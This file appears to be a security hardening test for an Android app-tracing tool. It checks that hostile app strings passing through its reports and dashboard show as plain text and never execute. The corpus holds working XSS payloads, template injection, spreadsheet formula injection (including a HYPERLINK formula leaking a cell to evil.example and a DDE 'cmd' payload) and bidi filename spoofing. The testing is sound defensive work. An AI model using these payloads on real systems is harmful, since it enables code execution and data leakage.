// Hostile app content end to end: one corpus (script injection, markup, template and CSV/formula
// injection, control, bidi and zero-width characters, lone surrogates, very long strings) put by
// an app into intents (action, data, extras, component, package), URLs and hosts, payloads,
// class names, click and dialog texts, thread names and returned objects, sent as agent messages
// through the real ingest path, then out through every report format and the live dashboard.
// Nothing may execute or become markup or a formula; what the app wrote is shown as text.
// (test/reports/html.test.ts, formats.test.ts and test/live/browser.test.ts check the renderers
// with smaller sets; this is the whole path with the whole corpus, on every cell and element.)
import { unzipSync } from 'fflate';
import ExcelJS from 'exceljs';
import type { Page } from 'playwright-core';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serve } from '../../host/commands/serve.js';
import type { Dashboard } from '../../host/live/server.js';
import { sdkCatalog } from '../../attribution/shipped.js';
import { Store } from '../../store/db.js';
import { PROTOCOL_VERSION } from '../../protocol/constants.js';
import { buildReport, type ReportModel } from '../../reports/model.js';
import { showInvisible } from '../../reports/render/escape.js';
import { render } from '../../reports/write.js';
import { hasChromium, launchChromium, waitFor } from '../live/helpers.js';
import { APP, cleanupTmp, Run, stack } from '../reports/helpers.js';
import { csvCells } from '../helpers/csv.js';

if (!hasChromium) console.warn('[test/hardening/hostile] /usr/bin/chromium is missing: the Chromium checks of the HTML report and the dashboard are skipped (apt-get install chromium)');

const PWN = 'window.__pwned=1';
/** Strings an app controls, each one a way text has been turned into code or markup somewhere. */
const MARKUP = [
  `<script>${PWN}</script>`,
  `"><img src=x onerror="${PWN}">`,
  `'><svg/onload=${PWN}>`,
  `</textarea></title></style><script>${PWN}</script>`,
  `<iframe srcdoc="<script>parent.${PWN}</script>">`,
  `<a href="javascript:${PWN}">x</a>`,
  `<!--<script>${PWN}</script>-->`,
  `{{constructor.constructor('${PWN}')()}}`,
  `\${${PWN}}`,
  `]]><x:y>&amp;&#x3C;`,
];
/** Spreadsheet formulas (OWASP CSV injection), including the tab, CR and full-width forms. */
const FORMULAS = [`=HYPERLINK("http://evil.example/?"&A1,"x")`, `=cmd|' /C calc'!A0`, '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1'];
/** Characters that hide, reorder or break text: controls, bidi overrides and isolates, zero-width, lone surrogates, separators. */
const INVISIBLE = ['nul\u0000bell\u0007esc\u001b[31mdel\u007f', 'invoice\u202Efdp.exe', '\u2066isolated\u2069\u200Fmark\u061C', 'zero\u200Bwidth\u200D\uFEFF', 'lone\uD800half\uDC00', 'line\u2028para\u2029next\u0085'];
const LONG = `https://evil.example/${'A'.repeat(4000)}`;
const CORPUS = [...MARKUP, ...FORMULAS, ...INVISIBLE];
/** Code points that must never reach a page or a cell raw (they are shown escaped instead). */
const RAW_INVISIBLE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u0085\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u2028\u2029]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
const RAW_INVISIBLE_ALL = new RegExp(RAW_INVISIBLE.source, 'g');
/** Leading characters that make a spreadsheet evaluate a cell (OWASP). */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

let run: Run;
let model: ReportModel;
let runId: number;
let dbPath: string;
const dir = mkdtempSync(join(tmpdir(), 'sdktrace-hostile-'));

beforeAll(() => {
  run = Run.create();
  runId = run.runId;
  dbPath = run.store.path;
  const main = run.process();
  run.resume(main);
  CORPUS.forEach((s, k) => {
    // A class name carrying the string, on the stack of a read before consent (a finding whose decisive frame it is).
    const evil = stack('android.telephony.TelephonyManager.getDeviceId', `com.evil${k}.${s}.Grab.run`, `${APP}.App.onCreate`);
    run.pi(main, 'imei', evil, { values: ['864213051234567', s], ret: { $: 'obj', cls: s, str: s } });
    run.dialog(main, s);
    run.click(main, s);
    run.event(main, {
      kind: 'launch',
      api: 'android.app.ContextImpl.startActivity(android.content.Intent)',
      detail: { via: k % 2 === 0 ? 'activity' : 'service', action: s, data: `content://${s}`, extras: [s], component: `com.other${k}/${s}`, package: k % 3 === 0 ? s : `com.other${k}` },
      stack: evil,
    });
    run.net(main, { layer: 'java', proto: 'http', tls: false, op: 'request', host: k % 4 === 0 ? s : `h${k}.example`, port: 80, url: `http://h${k}.example/${s}`, method: 'POST', sample: `POST /${s} HTTP/1.1\r\nHost: h${k}.example\r\n\r\nimei=864213051234567&note=${s}`, sampleEncoding: 'utf8' }, evil);
  });
  run.net(main, { layer: 'java', proto: 'http', tls: false, op: 'request', host: 'long.example', url: LONG, sample: `${LONG}${'B'.repeat(60_000)}`, sampleEncoding: 'utf8' });
  // Thread names and thrown texts come from the app too: one raw agent batch with them.
  run.ingest.handle(main, {
    type: 'send',
    payload: {
      v: PROTOCOL_VERSION,
      kind: 'batch',
      pid: main.pid,
      events: CORPUS.map((s, k) => ({ seq: main.nextSeq + k, t: run.t + k, tid: 9000 + k, thread: s.slice(0, 256), kind: 'pi', api: 'android.provider.Settings$Secure.getString()', dataType: 'android_id', thrown: `java.lang.SecurityException: ${s}` })),
    },
  });
  run.spawnOther(`com.other0`, 6000, run.t + 50);
  run.end();
  expect(run.store.db.prepare('SELECT count(*) FROM protocol_errors').pluck().get()).toBe(0);
  model = buildReport(run.store, runId, { generatedAt: '2026-01-01T00:00:00.000Z', catalog: sdkCatalog() });
});

afterAll(() => {
  run?.store.close();
  cleanupTmp();
  rmSync(dir, { recursive: true, force: true });
});


describe('hostile app strings through ingest into the reports', () => {
  it('are stored as sent (the evidence), and the run has the findings they ride on', () => {
    const clicks = (run.store.db.prepare("SELECT detail FROM events WHERE run_id = ? AND api = 'android.view.View.performClick()' ORDER BY id").pluck().all(runId) as string[]).map((d) => JSON.parse(d).text);
    expect(clicks).toEqual(CORPUS);
    expect(model.findings.some((f) => f.rule === 'pre-consent-collection')).toBe(true);
    expect(model.findings.some((f) => f.rule === 'associated-startup')).toBe(true);
  });

  it('CSV: no cell starts like a formula; formula-like app text is kept behind an apostrophe', async () => {
    const csv = (await render(model, 'csv', { catalog: sdkCatalog() })).toString('utf8');
    const cells = csvCells(csv);
    expect(cells.length).toBeGreaterThan(28 * 2);
    for (const c of cells) expect(FORMULA_START.test(c), JSON.stringify(c.slice(0, 80))).toBe(false);
    // The decisive frames of the pre-consent findings are the hostile classes, formula ones included.
    const shown = cells.map((c) => (c.startsWith("'") && FORMULA_START.test(c.slice(1)) ? c.slice(1) : c));
    for (const f of FORMULAS.slice(0, 5)) expect(shown.some((c) => c.includes(f)), f).toBe(true);
    expect(cells.some((c) => c.startsWith("'="))).toBe(true);
    // Controls, bidi and zero-width characters are shown as code points, as in the HTML report.
    for (const c of cells) expect(RAW_INVISIBLE.test(c), JSON.stringify(c.slice(0, 80))).toBe(false);
    expect(cells.some((c) => c.includes('invoice\\u202efdp.exe'))).toBe(true);
  });

  it('XLSX: well-formed XML, no formula anywhere, formula-like text as text cells, controls and lone surrogates shown as code points', async () => {
    const buf = await render(model, 'xlsx', { catalog: sdkCatalog() });
    const files = unzipSync(new Uint8Array(buf));
    const xml = Object.entries(files).filter(([n]) => n.endsWith('.xml')).map(([n, b]) => [n, Buffer.from(b).toString('utf8')] as const);
    for (const [name, text] of xml) {
      expect(text, name).not.toMatch(/<f[ >]/);
      // XML 1.0 cannot carry these: a file with them is one Excel refuses to open.
      expect(text, name).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const strings: { sheet: string; value: string; numFmt: string | undefined; type: number }[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => void (typeof cell.value === 'string' ? strings.push({ sheet: ws.name, value: cell.value, numFmt: cell.numFmt, type: cell.type }) : expect(typeof cell.value === 'object' && cell.value !== null && 'formula' in cell.value, `${ws.name} ${cell.address}`).toBe(false)))));
    const risky = strings.filter((s) => FORMULA_START.test(s.value));
    expect(risky.length).toBeGreaterThan(FORMULAS.length);
    for (const s of risky) expect({ type: s.type, numFmt: s.numFmt }, `${s.sheet}: ${JSON.stringify(s.value.slice(0, 60))}`).toEqual({ type: ExcelJS.ValueType.String, numFmt: '@' });
    for (const s of strings) {
      expect(s.value.length, s.sheet).toBeLessThanOrEqual(32767);
      // Bidi and zero-width characters too: in a spreadsheet they reorder or disguise text as in a page.
      expect(RAW_INVISIBLE.test(s.value), `${s.sheet}: ${JSON.stringify(s.value.slice(0, 80))}`).toBe(false);
    }
    // The intents are in the Launches sheet, the hosts in Network, as text.
    const launches = strings.filter((s) => s.sheet === 'Launches').map((s) => s.value);
    for (const m of MARKUP) expect(launches.some((v) => v.includes(m)), m).toBe(true);
    const hosts = strings.filter((s) => s.sheet === 'Network').map((s) => s.value);
    // Every fourth net event's host is a corpus string (XML reads a CR back as LF).
    for (const k of [0, 4, 12, 16]) expect(hosts).toContain(showInvisible(CORPUS[k]!).replace(/\r/g, '\n'));
  });

  it('JSON: the same strings, exactly (it is data, not a view)', async () => {
    const json = JSON.parse((await render(model, 'json', { catalog: sdkCatalog() })).toString('utf8'));
    const text = JSON.stringify(json);
    for (const m of [...MARKUP, ...FORMULAS]) expect(text.includes(JSON.stringify(m).slice(1, -1)), m).toBe(true);
  });

  it('JUnit XML: well-formed characters only, markup escaped', async () => {
    const xml = (await render(model, 'junit', { catalog: sdkCatalog() })).toString('utf8');
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    expect(xml).not.toMatch(/<script|<img|<svg|<iframe/i);
  });

  it('HTML: no markup from the app, invisible characters shown as code points, long strings cut', async () => {
    const html = (await render(model, 'html', { catalog: sdkCatalog() })).toString('utf8');
    // Text with markup characters never appears raw ("${...}" and "{{...}}" may: no template engine reads the page).
    for (const m of MARKUP.filter((x) => /[<>"'&]/.test(x))) expect(html.includes(m), m).toBe(false);
    expect(html).not.toMatch(/<(script|img|iframe|object|embed|base|form)\b/i);
    expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/href\s*=\s*["']?\s*javascript:/i);
    const raw = RAW_INVISIBLE.exec(html);
    expect(raw, `a raw control, bidi, zero-width or lone-surrogate character: ${JSON.stringify(raw?.[0])} in ${JSON.stringify(html.slice(Math.max(0, (raw?.index ?? 0) - 80), (raw?.index ?? 0) + 40))}`).toBeNull();
    expect(html.length).toBeLessThan(2_000_000);
  });
});

describe.skipIf(!hasChromium)('in Chromium: the HTML report and the live dashboard show the corpus as text', () => {
  let browser: Awaited<ReturnType<typeof launchChromium>>;
  beforeAll(async () => {
    browser = await launchChromium();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
  });

  /** Facts that show whether anything from the app became live: scripts, handlers, frames, dialogs. */
  async function liveness(page: Page) {
    return page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      inlineScripts: [...document.scripts].filter((s) => !s.src).length,
      handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
      frames: document.querySelectorAll('iframe, frame, object, embed, img').length,
      jsLinks: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
      text: document.body.innerText,
    }));
  }

  it('the HTML report: nothing runs, nothing loads, every markup string is visible text', async () => {
    const file = join(dir, 'report.html');
    writeFileSync(file, await render(model, 'html', { catalog: sdkCatalog() }));
    const page = await browser.context.newPage();
    const problems: string[] = [];
    const requests: string[] = [];
    page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
    page.on('dialog', (d) => problems.push(`dialog: ${d.message()}`));
    page.on('request', (r) => requests.push(r.url()));
    await page.goto(`file://${file}`, { waitUntil: 'load' });
    // Open every collapsed section, so hidden evidence is rendered too.
    await page.$$eval('details', (els) => els.forEach((d) => ((d as HTMLDetailsElement).open = true)));
    const f = await liveness(page);
    expect(problems).toEqual([]);
    expect(requests).toEqual([`file://${file}`]);
    expect({ pwned: f.pwned, inlineScripts: f.inlineScripts, handlers: f.handlers, frames: f.frames, jsLinks: f.jsLinks }).toEqual({ pwned: null, inlineScripts: 0, handlers: 0, frames: 0, jsLinks: 0 });
    for (const m of MARKUP) expect(f.text.includes(m), m).toBe(true);
    expect(f.text).toContain('invoice\\u202efdp.exe');
    const raw = RAW_INVISIBLE.exec(f.text);
    expect(raw, `raw ${JSON.stringify(raw?.[0])} in ${JSON.stringify(f.text.slice(Math.max(0, (raw?.index ?? 0) - 80), (raw?.index ?? 0) + 40))}`).toBeNull();
    await page.close();
  });

  it('the dashboard over the stored run: rows and event details show the corpus as text, nothing runs', async () => {
    let dash: Dashboard | undefined;
    const done = serve(dbPath, { run: String(runId), port: '0', onServe: (d) => (dash = d) });
    try {
      await waitFor('the dashboard', () => dash, 60_000);
      const page = await browser.context.newPage();
      const problems: string[] = [];
      page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
      page.on('dialog', (d) => problems.push(`dialog: ${d.message()}`));
      page.on('console', (m) => m.type() === 'error' && problems.push(`console: ${m.text()}`));
      await page.goto(dash!.url);
      const total = run.store.db.prepare('SELECT count(*) FROM events WHERE run_id = ?').pluck().get(runId) as number;
      await waitFor('the events', async () => ((await page.textContent('#events-count')) ?? '').includes(`${total} event`));
      // Each launch event's detail: its intent fields, as text.
      const launches = run.store.db.prepare("SELECT id, json_extract(detail, '$.action') AS action FROM events WHERE run_id = ? AND kind = 'launch' ORDER BY id").all(runId) as { id: number; action: string }[];
      expect(launches).toHaveLength(CORPUS.length);
      await page.selectOption('#f-kind', 'launch');
      // The list follows the end of the run; the markup intents are the first launches.
      await page.focus('#list');
      await page.keyboard.press('Home');
      for (const l of launches.filter((x) => MARKUP.includes(x.action))) {
        await waitFor(`row ${l.id}`, () => page.$(`#list .rows .row[data-id="${l.id}"]`)).catch(async (e) => {
          throw new Error(`${(e as Error).message}; rows: ${JSON.stringify(await page.$$eval('#list .rows .row', (r) => r.map((x) => (x as HTMLElement).dataset.id)))} count: ${await page.textContent('#events-count')}`);
        });
        await page.click(`#list .rows .row[data-id="${l.id}"]`);
        await waitFor(`the detail of ${l.id}`, async () => ((await page.textContent('#detail-body')) ?? '').includes(l.action));
      }
      // The invisible ones (the last launches): shown as code points, in the list and the detail.
      await page.keyboard.press('End');
      for (const l of launches.filter((x) => INVISIBLE.includes(x.action))) {
        await waitFor(`row ${l.id}`, () => page.$(`#list .rows .row[data-id="${l.id}"]`));
        await page.click(`#list .rows .row[data-id="${l.id}"]`);
        const shownAs = l.action.replace(RAW_INVISIBLE_ALL, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
        await waitFor(`the detail of ${l.id}`, async () => ((await page.textContent('#detail-body')) ?? '').includes(shownAs)).catch(async (e) => {
          throw new Error(`${(e as Error).message}: ${JSON.stringify(shownAs)} not in ${JSON.stringify(await page.textContent('#detail-body'))}`);
        });
      }
      const f = await liveness(page);
      expect(problems).toEqual([]);
      expect({ pwned: f.pwned, handlers: f.handlers, frames: f.frames, jsLinks: f.jsLinks }).toEqual({ pwned: null, handlers: 0, frames: 0, jsLinks: 0 });
      const raw = RAW_INVISIBLE.exec(f.text);
      expect(raw, `raw ${JSON.stringify(raw?.[0])} in ${JSON.stringify(f.text.slice(Math.max(0, (raw?.index ?? 0) - 80), (raw?.index ?? 0) + 40))}`).toBeNull();
      // The page's own script only (the CSP forbids inline script).
      expect(await page.$$eval('script', (s) => s.filter((x) => !(x as HTMLScriptElement).src).length)).toBe(0);
      await page.close();
    } finally {
      await dash?.close();
      expect(await done).toBe(0);
    }
  }, 90_000);
});
